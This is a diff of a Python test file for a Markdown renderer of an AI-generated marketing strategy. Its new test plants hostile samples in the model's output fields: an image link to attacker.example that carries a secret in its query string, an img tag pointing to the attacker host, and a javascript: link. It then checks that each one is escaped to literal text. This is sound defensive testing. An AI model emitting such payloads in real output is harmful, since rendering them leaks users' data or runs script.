@@ -3,6 +3,7 @@ channel's share with its EUR amount, every section, in the strategy's language."
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 import pytest
@@ -57,14 +58,14 @@ def test_markdown_has_every_section_with_steps_in_order() -> None:
     assert "- **Budget:** EUR 12,500" in text
     assert "- **Timeline:** 12 weeks" in text
     assert "## Summary\n\nThree months of fresh bread." in text
-    assert "## Steps\n\n1. Open | launch\n2. Advertise\n3. Measure\n" in text
+    assert "## Steps\n\n1. Open \\| launch\n2. Advertise\n3. Measure\n" in text
     assert "| Instagram | 60% | EUR 7,500 | Young \\| local |" in text
     assert "| Radio | 40% | EUR 5,000 | Commuters |" in text
     assert "## KPIs\n\n- 500 orders" in text
     assert "## Key messages\n\n- Fresh every morning" in text
     assert "## Visual brief\n\nLoaves at dawn" in text
-    assert "- [https://example.com/](https://example.com/) (retrieved)" in text
-    assert "- [bakers.example](https://vertexaisearch.example/redirect/1) (cited)" in text
+    assert "- [https\\://example.com/](<https://example.com/>) (retrieved)" in text
+    assert "- [bakers.example](<https://vertexaisearch.example/redirect/1>) (cited)" in text
     assert text.rstrip().endswith("_Task `t1`, model gemini-3.8-flash-001_")
 
 
@@ -118,3 +119,26 @@ def test_percent() -> None:
     assert percent(0.35) == "35%"
     assert percent(0.125) == "12.5%"
     assert percent(1 / 3) == "33.3%"
+
+
+def test_model_text_is_text_in_the_markdown_and_links_come_only_from_sources() -> None:
+    """Issue 18: injected Markdown or HTML in the strategy stays literal text."""
+    task = completed()
+    strategy = task["result"]["strategy"]
+    leak = "![chart](https://attacker.example/leak?d=secret)"
+    strategy["strategy_name"] = f"Plan {leak}"
+    strategy["summary"] = '<img src="https://attacker.example/x"> see www.attacker.example'
+    strategy["steps"][0]["description"] = "[click](javascript:alert(1)) or mail me@attacker.example"
+    strategy["kpis"] = ["**bold** `code` https://attacker.example/p ~~gone~~ &amp;"]
+    text = to_markdown(task)
+    outside_sources = text.split("## Sources")[0]
+    for construct in ("![", "](", "<img", "**bold", "`code", "~~", "://attacker", "www.att"):
+        # Present only with its first character backslash-escaped (literal text).
+        unescaped = re.search(r"(?<!\\)" + re.escape(construct), outside_sources)
+        assert unescaped is None, construct
+    assert "\\&amp;" in text and "me\\@attacker" in text  # no entity, no mail link
+    # The escapes keep the words: a reader sees what the model wrote.
+    assert "\\!\\[chart\\]\\(https\\://attacker.example/leak?d=secret\\)" in text
+    # The only links are the recorded sources'.
+    links = [line for line in text.splitlines() if "](" in line]
+    assert links and all(line.startswith("- [") and "](<https://" in line for line in links)
